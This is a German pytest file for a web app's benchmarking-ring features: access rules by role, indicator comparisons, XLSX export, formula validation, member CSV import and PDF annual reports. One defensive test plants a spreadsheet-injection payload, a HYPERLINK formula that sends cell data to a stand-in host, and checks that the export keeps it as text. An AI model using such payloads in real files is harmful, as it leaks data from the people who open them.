"""Vergleichsringe im Browser: wer was sieht (Mitglied, Nichtmitglied, Land mit und ohne Erlaubnis,
Koordination), der Kennzahlvergleich mit hervorgehobenem eigenem Träger, XLSX-Export, Verwaltung
mit Formelfehlern, Import der Ringspalten durch ein Mitglied, Jahresbericht als PDF."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime

import lxml.html
import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from zielvereinbarung.demo.konten import DEMO_PASSWORT
from zielvereinbarung.models import RingWert
from zielvereinbarung.services.konten.benutzer import lege_benutzer_an

from .scrollbereiche import pruefe_scrollbereiche
from .test_import_seiten import bestaetigen, hochladen, vorgang


@pytest.fixture
def ring(welt, testring, engine):
    """Testring mit Daten; dazu die Koordination `ring-test`."""
    testring.import_eigene()
    with Session(engine) as s:
        lege_benutzer_an(
            s, benutzername="ring-test", name="Koordination", rolle="ring",
            passwort=DEMO_PASSWORT, ring_id=testring.ring.id, jetzt=datetime.now(UTC),
        )  # fmt: skip
        s.commit()
    return testring.ring


def _seite(client, url: str, status: int = 200) -> str:
    antwort = client.get(url)
    assert antwort.status_code == status, antwort.get_data(as_text=True)[:3000]
    return antwort.get_data(as_text=True)


def _text(html: str) -> str:
    return " ".join(lxml.html.fromstring(html).text_content().split())


def test_mitglied_sieht_den_vergleich_mit_eigener_zeile(ring, client_als):
    client = client_als("traeger")  # 01054, Mitglied
    liste = _seite(client, "/ringe")
    assert "Testring" in liste
    uebersicht = _text(_seite(client, f"/ringe/{ring.id}"))
    assert "Berichtsmonat Dezember 2024" in uebersicht
    assert "Eigene Basiszahlen importieren" in uebersicht
    # Monate deutsch (Issue 9.9): Auswahl, Überschriften, Export, Freigabe – nie „2024-12“
    assert "Alle Werte Dezember 2024 als XLSX" in uebersicht
    assert not re.search(r"\b20\d\d-\d\d\b", uebersicht), uebersicht
    html = _seite(client, f"/ringe/{ring.id}/kennzahl/K_KOST?monat=2024-11")
    seite = lxml.html.fromstring(html)
    (eigene,) = seite.xpath('//tr[@aria-current="true"]')
    assert "Kreis Nordfriesland (01054) – Ihr Träger" in _text(lxml.html.tostring(eigene).decode())
    assert "10,00 €" in eigene.text_content()
    text = _text(html)
    assert "10,00 € (3 von 3 Mitgliedern)" in text  # Ringwert mit Abdeckung
    assert seite.xpath('//svg[@role="img"]/title[contains(., "Eigener Wert 10,00 €")]')
    # Dezember: 03159 ohne eigene Werte → nicht berechenbar, Abdeckung 2 von 3
    dezember = _text(_seite(client, f"/ringe/{ring.id}/kennzahl/K_KOST?monat=2024-12"))
    assert (
        "(2 von 3 Mitgliedern)" in dezember
        and "nicht berechenbar: Daten für Dezember 2024 fehlen" in dezember
    )
    jahr_html = _seite(client, f"/ringe/{ring.id}/kennzahl/Q_ABH?jahr=2024")
    jahr = _text(jahr_html)
    assert "Jahr 2024 (Wert im Dezember)" in jahr and "Rang 1 von 2" in jahr
    assert "Q_ABH" in jahr and "im Jahr 2024 (Dezember), nach Rang" in jahr
    monat = _text(_seite(client, f"/ringe/{ring.id}/kennzahl/K_KOST?monat=2024-11"))
    assert "Ringwert November 2024" in monat and "Monat November 2024" in monat
    assert not re.search(r"\b20\d\d-\d\d\b", monat), monat
    for url in (f"/ringe/{ring.id}", f"/ringe/{ring.id}/kennzahl/K_KOST?monat=2024-11"):
        assert pruefe_scrollbereiche(_seite(client, url)) >= 2
    # Jahressicht: der Zeitverlauf zeigt die Dezemberwerte der Mitgliedsjahre 2023 und 2024
    (verlauf,) = lxml.html.fromstring(jahr_html).xpath(
        '//svg[@role="img"]/title[contains(., "Dezemberwerte je Jahr")]'
    )
    assert "Dez. 2023" in verlauf.text_content() and "Dez. 2024" in verlauf.text_content()


def test_nichtmitglied_und_land_ohne_erlaubnis_sehen_nichts(ring, client_als):
    for client in (client_als("land"), client_als("traeger-01059")):
        assert "Testring" not in _seite(client, "/ringe")
        for url in (f"/ringe/{ring.id}", f"/ringe/{ring.id}/kennzahl/K_KOST",
                    f"/ringe/{ring.id}/export.xlsx", f"/ringe/{ring.id}/berichte"):  # fmt: skip
            assert client.get(url).status_code == 404


def test_land_sieht_den_ring_nur_wenn_er_es_erlaubt(ring, client_als, csrf_token):
    land = client_als("land")  # SH: 01054 ist Mitglied
    assert land.get(f"/ringe/{ring.id}").status_code == 404
    koordination = client_als("ring-test")
    token = csrf_token(koordination, f"/ringe/{ring.id}/verwaltung")
    antwort = koordination.post(
        f"/ringe/{ring.id}/einstellungen",
        data={"es-csrf_token": token, "es-laender_sehen": "y", "es-freigegeben_bis": "2024-06"},
    )
    assert antwort.status_code == 302
    html = _seite(land, f"/ringe/{ring.id}/kennzahl/K_KOST?monat=2024-06")
    assert 'aria-current="true"' not in html  # das Land hat keine eigene Zeile
    assert (
        land.get(f"/ringe/{ring.id}/kennzahl/K_KOST?monat=2024-07").status_code == 404
    )  # nicht freigegeben
    assert land.get(f"/ringe/{ring.id}/verwaltung").status_code == 403


def test_koordination_verwaltet_und_sieht_nicht_freigegebenes(ring, client_als, csrf_token):
    client = client_als("ring-test")
    assert "Import" in _text(_seite(client, "/"))
    _seite(client, f"/ringe/{ring.id}/verwaltung")
    token = csrf_token(client, f"/ringe/{ring.id}/verwaltung")
    felder = {
        "kz-csrf_token": token, "kz-code": "Q_NEU", "kz-name": "Neue Quote",
        "kz-kategorie": "qualitaet", "kz-einheit": "prozent", "kz-richtung": "hoeher",
        "kz-gueltig_ab": "2024-01-01",
        "kz-formel": "summe(abgeholfen, 12) / summe(widerspruche, 12) * 100",
    }  # fmt: skip
    antwort = client.post(f"/ringe/{ring.id}/kennzahlen", data=felder)
    assert antwort.status_code == 400
    text = _text(antwort.get_data(as_text=True))
    assert (
        "Unbekannte Basiszahl „widerspruche“ an Stelle 31. Gemeint ist vielleicht „widersprueche“."
        in text
    )
    assert 'value="Neue Quote"' in antwort.get_data(as_text=True)  # Eingaben bleiben stehen
    felder["kz-formel"] = felder["kz-formel"].replace("widerspruche,", "widersprueche,")
    assert client.post(f"/ringe/{ring.id}/kennzahlen", data=felder).status_code == 302
    assert "Q_NEU Neue Quote" in _text(_seite(client, f"/ringe/{ring.id}?monat=2024-12"))


def test_xlsx_export_enthaelt_werte_raenge_und_definitionen(ring, client_als):
    antwort = client_als("traeger").get(f"/ringe/{ring.id}/export.xlsx?monat=2024-11")
    assert antwort.status_code == 200
    assert antwort.mimetype.endswith("spreadsheetml.sheet")
    buch = load_workbook(io.BytesIO(antwort.data), read_only=True)
    assert buch.sheetnames == ["Werte", "Statistik", "Hinweise", "Definitionen"]
    zeilen = list(buch["Werte"].iter_rows(values_only=True))
    kopf = zeilen[1]
    nf = next(z for z in zeilen if z[0] == "01054")
    assert nf[kopf.index("K_KOST K_KOST (€)")] == 10 and nf[kopf.index("K_KOST Rang")] == 1
    definitionen = {d[0]: d for d in buch["Definitionen"].iter_rows(values_only=True)}
    assert definitionen["Q_ABH"][6] == "summe(abgeholfen, 12) / summe(widersprueche, 12) * 100"


def test_xlsx_export_macht_aus_texten_keine_formeln(ring, client_als, csrf_token):
    """Was die Koordination als Name oder Hinweis eingibt, bleibt in der Tabelle der Mitglieder
    Text – auch mit „=“ am Anfang (sonst führte die Tabellenkalkulation es aus)."""
    koordination = client_als("ring-test")
    boese = '=HYPERLINK("http://127.0.0.1:9/x?"&A3,"Klick")'
    antwort = koordination.post(
        f"/ringe/{ring.id}/kennzahlen",
        data={
            "kz-csrf_token": csrf_token(koordination, f"/ringe/{ring.id}/verwaltung"),
            "kz-code": "K_BOESE", "kz-name": boese, "kz-kategorie": "kosten",
            "kz-einheit": "euro", "kz-richtung": "niedriger", "kz-formel": "kosten / elb",
            "kz-gueltig_ab": "2023-01-01", "kz-ba_unterschied": "=1+1",
        },
    )  # fmt: skip
    assert antwort.status_code == 302, antwort.get_data(as_text=True)[:2000]
    antwort = client_als("traeger").get(f"/ringe/{ring.id}/export.xlsx?monat=2024-11")
    buch = load_workbook(io.BytesIO(antwort.data))  # nicht read_only: mit data_type
    kopf = {z.value: z.data_type for z in buch["Werte"][2]}
    assert kopf[f"K_BOESE {boese} (€)"] == "s"
    zeile = next(z for z in buch["Definitionen"].iter_rows() if z[0].value == "K_BOESE")
    assert [(z.value, z.data_type) for z in (zeile[2], zeile[9])] == [(boese, "s"), ("=1+1", "s")]
    assert all(z.data_type != "f" for b in buch for r in b.iter_rows() for z in r)


def test_mitglied_importiert_ringspalten_im_browser(ring, client_als, csrf_token, engine):
    client = client_als("traeger")
    assert "personal" in _text(_seite(client, "/import"))
    datei = b"ags,monat,datenstand,personal\n01054,2024-06,2025-03-20,11\n"
    vorschau = hochladen(client, csrf_token, datei)
    assert vorschau.status_code == 200
    html = vorschau.get_data(as_text=True)
    assert "Werte der Vergleichsringe mit neuem Datenstand</dt><dd>1</dd>" in html
    text = _text(html)
    assert "Geändert werden nur die Spalten der Datei: Vergleichsringe: personal" in text
    assert (
        "bleiben unverändert: alle gesetzlichen Basiszahlen; Vergleichsringe: abgeholfen, kosten"
        in text
    )
    assert ">personal</th>" in html and ">elb</th>" not in html  # Zeilen: nur die Dateispalten
    ergebnis = bestaetigen(client, csrf_token, vorgang(vorschau.get_data(as_text=True)))
    assert "Werte der Vergleichsringe: 0 neu, 1 neuer Datenstand" in _text(
        ergebnis.get_data(as_text=True)
    )
    with Session(engine) as s:
        assert s.exec(select(RingWert).where(RingWert.wert == 11)).one().ags == "01054"
    fremd = _text(
        hochladen(client, csrf_token, b"ags,monat,personal\n03157,2024-06,11\n").get_data(
            as_text=True
        )
    )
    assert "Zeile 2, Spalte A (ags)" in fremd and "nicht importiert" in fremd


def test_jahresbericht_auf_anforderung_und_abruf(ring, client_als, csrf_token, engine):
    koordination = client_als("ring-test")
    token = csrf_token(koordination, f"/ringe/{ring.id}/berichte")
    antwort = koordination.post(
        f"/ringe/{ring.id}/berichte/anfordern", data={"csrf_token": token, "jahr": "2024"}
    )
    assert antwort.status_code == 302
    html = _seite(koordination, f"/ringe/{ring.id}/berichte")
    assert "Version 1 erzeugt" in _text(html)
    (link,) = re.findall(r'href="(/ringe/\d+/berichte/\d+\.pdf)"', html)
    mitglied = client_als("traeger")
    pdf = mitglied.get(link)
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
    # unveränderte Daten: kein neuer Bericht
    token = csrf_token(koordination, f"/ringe/{ring.id}/berichte")
    koordination.post(
        f"/ringe/{ring.id}/berichte/anfordern", data={"csrf_token": token, "jahr": "2024"}
    )
    assert "unverändert (Version 1)" in _text(_seite(koordination, f"/ringe/{ring.id}/berichte"))
    assert client_als("land").get(link).status_code == 404


def test_mitglied_darf_nicht_verwalten(ring, client_als, csrf_token):
    client = client_als("traeger")
    assert client.get(f"/ringe/{ring.id}/verwaltung").status_code == 403
    token = csrf_token(client, f"/ringe/{ring.id}")
    antwort = client.post(
        f"/ringe/{ring.id}/mitglieder", data={"csrf_token": token, "jahr": "2024", "ags": "01054"}
    )
    assert antwort.status_code == 403
    assert (
        client.post(
            f"/ringe/{ring.id}/berichte/anfordern", data={"csrf_token": token, "jahr": "2024"}
        ).status_code
        == 403
    )
